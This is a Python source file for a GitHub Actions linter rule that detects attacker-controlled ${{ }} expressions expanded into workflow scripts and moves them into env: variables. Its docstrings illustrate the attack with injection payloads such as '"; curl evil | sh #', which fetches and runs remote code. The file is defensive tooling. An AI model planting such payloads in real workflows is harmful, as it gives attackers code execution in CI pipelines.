"""``gha-template-injection``: attacker-controllable ``${{ … }}`` expanded into a script.

GitHub substitutes ``${{ … }}`` into the script text *before* the shell parses it, so a pull
request title such as ``"; curl evil | sh #`` becomes code. The fix passes the value through an
environment variable instead, which the shell treats as data.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar

from bot.detectors.interface import Detection, WorkflowRule
from bot.detectors.workflows.model import Step
from bot.detectors.workflows.shell_quoting import javascript_reference, reference, shell_name
from bot.detectors.workflows.template_scan import Expression, expressions
from bot.knowledge.contexts import Provenance, built_in_variable, provenance
from bot.models import Confidence, Disposition, Finding, Severity
from bot.yamledit import MergeInto, Operation, RewriteFragment, Route


@dataclass(frozen=True)
class CodeInput:
    """An action input whose text the action runs as code."""

    language: str
    """``javascript`` or a shell name when mendbot can rewrite it, else a label."""
    no_fix: str | None = None
    """Why mendbot reports it without a fix (None: the step's ``env:`` reaches the code and
    the language is one mendbot rewrites)."""


#: Action inputs that are code, by lower-cased ``owner/repo[/path]`` and lower-cased input
#: name (inputs are case-insensitive). Each entry was checked against the action's own
#: ``action.yml``/README: the input is evaluated as a script, a template or command-line flags.
CODE_INPUTS: dict[str, dict[str, CodeInput]] = {
    "actions/github-script": {"script": CodeInput("javascript")},
    "amadevus/pwsh-script": {"script": CodeInput("pwsh")},
    "azure/powershell": {"inlinescript": CodeInput("pwsh")},
    "azure/cli": {
        "inlinescript": CodeInput(
            "bash",
            "the script runs in azure/cli's container; move the value into env: by hand and "
            "check that the container receives it",
        )
    },
    "jannekem/run-python-script-action": {
        "script": CodeInput(
            "python", "mendbot does not rewrite Python; read the value from os.environ by hand"
        )
    },
    "addnab/docker-run-action": {
        "run": CodeInput(
            "sh",
            "the script runs in the container the action starts, which does not see the "
            "step's env:; pass the value with `options: -e NAME` and read $NAME",
        ),
        "options": CodeInput(
            "docker options",
            "an expression in docker options can add any flag (`--privileged`, `-v /:/host`); "
            "keep untrusted values out of it",
        ),
    },
    "mikefarah/yq": {
        "cmd": CodeInput("sh", "mendbot does not rewrite yq's cmd; pass the value through env:")
    },
    "tibdex/backport": {
        "title_template": CodeInput(
            "lodash template", "lodash templates run `<% … %>` as JavaScript; there is no env:"
        ),
        "body_template": CodeInput(
            "lodash template", "lodash templates run `<% … %>` as JavaScript; there is no env:"
        ),
    },
    "appleboy/ssh-action": {
        "script": CodeInput(
            "remote shell",
            "the script runs on the remote host; forward the value with the action's `envs:`",
        )
    },
}


@dataclass(frozen=True)
class _Site:
    """A script that GitHub expands expressions into: a ``run:`` or an action's code input."""

    step: Step
    route: Route
    script: str
    language: str
    """A shell name (``bash``, ``pwsh``, ``cmd``, ...) or ``javascript``."""
    action_input: str | None = None
    """``inlineScript of azure/cli`` for an action's input; None for ``run:``."""
    no_fix: str | None = None


def _sites(step: Step) -> Iterator[_Site]:
    if step.run is not None:
        yield _Site(step, (*step.route, "run"), step.run, shell_name(step.shell, step.job.runs_on))
    elif step.uses is not None and step.uses.owner:
        inputs = CODE_INPUTS.get(step.uses.slug, {})
        for name, value in step.with_.items():
            code = inputs.get(str(name).lower())
            if code is not None and isinstance(value, str):
                yield _Site(
                    step,
                    (*step.route, "with", str(name)),
                    value,
                    code.language,
                    f"`{name}` of {step.uses.owner}/{step.uses.repo}",
                    code.no_fix,
                )


def variable_name(context: str) -> str:
    """An environment variable name for a context: ``github.event.issue.title`` →
    ``ISSUE_TITLE`` (the ``GITHUB_`` prefix is left to the runner's own variables)."""
    path = re.sub(r"^github\.(event\.)?", "", context)
    path = re.sub(r"\[\s*'([^']*)'\s*\]", r".\1", path)
    path = re.sub(r"\[\s*(\d+)\s*\]", r".\1", path)
    name = re.sub(r"[^A-Za-z0-9]+", "_", path).strip("_").upper()
    return name if name and not name[0].isdigit() else f"CTX_{name}"


def _taken_names(step: Step) -> dict[str, object]:
    names: dict[str, object] = {}
    for scope in (step.workflow.env, step.job.env, step.env):
        names.update(scope)
    return names


def _why_not(language: str) -> str:
    """Why an expression in a ``language`` script is reported without a fix."""
    if language in ("bash", "sh", "zsh", "dash", "ksh"):
        return "a heredoc precedes the expression and heredocs quote differently; fix by hand"
    if language in ("pwsh", "powershell"):
        return "the expression is in a single-quoted PowerShell string or here-string"
    if language == "cmd":
        return "cmd.exe expands %VAR% before parsing, so env: would not help; use pwsh or bash"
    return f"mendbot does not rewrite {language} scripts; pass the value through env: by hand"


class TemplateInjection(WorkflowRule):
    """Report ``${{ … }}`` of untrusted contexts in scripts; move them into ``env:``."""

    id: ClassVar[str] = "gha-template-injection"
    title: ClassVar[str] = "untrusted expression expanded into a script"
    description: ClassVar[str] = (
        "GitHub replaces `${{ … }}` in `run:` (and in `actions/github-script`'s `script`) "
        "*before* the shell or Node.js reads it, so an issue title, a branch name or a commit "
        'message becomes code (`a"; curl evil | sh; #`). The fix moves each expression into '
        "the step's `env:` and reads the variable from the script, where it is data: "
        '`"${ISSUE_TITLE}"` in bash and sh (quote-aware: inside single quotes the quote is '
        "closed and reopened, `'\"${ISSUE_TITLE}\"'`), `$env:ISSUE_TITLE` in PowerShell, "
        "`process.env.ISSUE_TITLE` in github-script. Contexts the "
        "runner already exports are reused without a new `env:` entry (`github.head_ref` → "
        "`GITHUB_HEAD_REF`), `env.X` becomes `$X`, and names never clash with existing "
        "variables. Severity is high for contexts an outsider controls (issue, pull request, "
        "comment, commit and release texts, branch names) and medium for contexts whose origin "
        "mendbot cannot see (inputs, step outputs, matrix values). Expressions more complex "
        "than one context (`format(...)`, `a || b`), heredocs, PowerShell single quotes, cmd "
        "(which expands `%VAR%` before parsing, so a variable is no protection) and Python "
        "scripts are reported without a fix. The fix is **unsafe**: quoting changes "
        "how a value with spaces is split, which is the point, but may surprise a script.\n\n"
        "Besides `run:`, the inputs of actions that run their text as code are checked: "
        "`actions/github-script` `script`, `Amadevus/pwsh-script` `script` and "
        "`azure/powershell` `inlineScript` (fixed like `run:`: the step's `env:` reaches "
        "them), and, reported without a fix, `azure/cli` `inlineScript`, "
        "`jannekem/run-python-script-action` `script`, `addnab/docker-run-action` `run` and "
        "`options`, `mikefarah/yq` `cmd`, `tibdex/backport` `title_template`/`body_template` "
        "(lodash templates) and `appleboy/ssh-action` `script`.\n\n"
        "Compared with zizmor's `template-injection`: zizmor's pedantic persona reports every "
        "expression in a script, including trusted ones (`github.sha`, `secrets.*`, "
        "`steps.x.outcome`, `needs.x.result`, literals); mendbot reports only contexts an "
        "outsider controls or whose origin it cannot see. zizmor also reports, at low "
        "confidence, names that are not contexts at all (`${{ foo.bar }}`) and numbers reached "
        "through a compound (`(github.event.pull_request || github.event.issue).number`), and, "
        "at high severity, logins (`github.event.pull_request.user.login`: letters, digits "
        "and hyphens only) and label names (created by the repository's triagers, not by "
        "outsiders); mendbot reports none of these. Steps nested in a `parallel:` group are "
        "analysed like any other step."
    )
    default_severity: ClassVar[Severity] = Severity.HIGH
    fix_disposition: ClassVar[Disposition | None] = Disposition.UNSAFE
    example_before: ClassVar[str] = """\
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: ${{ github.event.issue.title }}"
"""
    example_after: ClassVar[str] = """\
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: ${ISSUE_TITLE}"
        env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
"""

    def visit_step(self, step: Step) -> Iterator[Detection]:
        """Check the step's script for dangerous expressions."""
        for site in _sites(step):
            yield from self._check(site)

    def _check(self, site: _Site) -> Iterator[Detection]:
        for expression in expressions(site.script):
            worst = self._worst(expression)
            if worst is None:
                continue
            context, origin = worst
            severity = self.severity if origin is Provenance.ATTACKER else Severity.MEDIUM
            who = (
                "an outsider can set"
                if origin is Provenance.ATTACKER
                else "mendbot cannot see the origin of"
            )
            into = "the script" if site.action_input is None else site.action_input
            finding = self.finding(
                site.step.workflow,
                site.route,
                f"`{expression.text}` expands `{context}`, which {who}, into {into} "
                "before it runs: code injection",
                evidence=expression.text,
                confidence=Confidence.HIGH if origin is Provenance.ATTACKER else Confidence.MEDIUM,
            ).model_copy(update={"severity": severity})
            yield self._fixed(finding, site, expression)

    @staticmethod
    def _worst(expression: Expression) -> tuple[str, Provenance] | None:
        ranked = [(c, provenance(c)) for c in expression.contexts()]
        for wanted in (Provenance.ATTACKER, Provenance.UNKNOWN):
            for context, origin in ranked:
                if origin is wanted:
                    return context, origin
        return None

    def _fixed(self, finding: Finding, site: _Site, expression: Expression) -> Detection:
        if site.no_fix is not None:
            return Detection(finding, None, site.no_fix)
        context = expression.single_context
        if context is None:
            return Detection(finding, None, "only single-context expressions are rewritten")
        name, new_env = self._variable(site.step, context, expression.text)
        patches: list[Operation] = []
        occurrences = [e for e in expressions(site.script) if e.text == expression.text]
        # Every occurrence of the same expression moves at once: the finding must disappear.
        for occurrence in occurrences:
            if site.language == "javascript":
                span = javascript_reference(site.script, occurrence.start, occurrence.end, name)
                if span is None:
                    return Detection(
                        finding, None, "the expression sits inside a longer JavaScript string"
                    )
                start, end, js = span
                patches.append(
                    RewriteFragment(
                        route=site.route, fragment=site.script[start:end], replacement=js
                    )
                )
                continue
            text = reference(site.language, site.script, occurrence.start, name)
            if text is None:
                return Detection(finding, None, _why_not(site.language))
            patches.append(
                RewriteFragment(route=site.route, fragment=occurrence.text, replacement=text)
            )
        if new_env:
            patches.append(
                MergeInto(route=site.step.route, key="env", value={name: expression.text})
            )
        return Detection(
            finding,
            self.fix(finding, f"pass {context} through the environment as {name}", patches),
        )

    @staticmethod
    def _variable(step: Step, context: str, expression_text: str) -> tuple[str, bool]:
        """The variable to read and whether a new ``env:`` entry is needed."""
        built_in = built_in_variable(context)
        if built_in is not None:
            return built_in, False
        if context.lower().startswith("env.") and re.fullmatch(r"env\.[A-Za-z_]\w*", context):
            return context[4:], False
        taken = _taken_names(step)
        base = variable_name(context)
        for candidate in [base, *(f"{base}_{n}" for n in range(2, 100))]:
            current = step.env.get(candidate)
            if current == expression_text:
                return candidate, False  # the step already passes exactly this value
            if candidate not in taken:
                return candidate, True
        return f"{base}_{len(taken)}", True
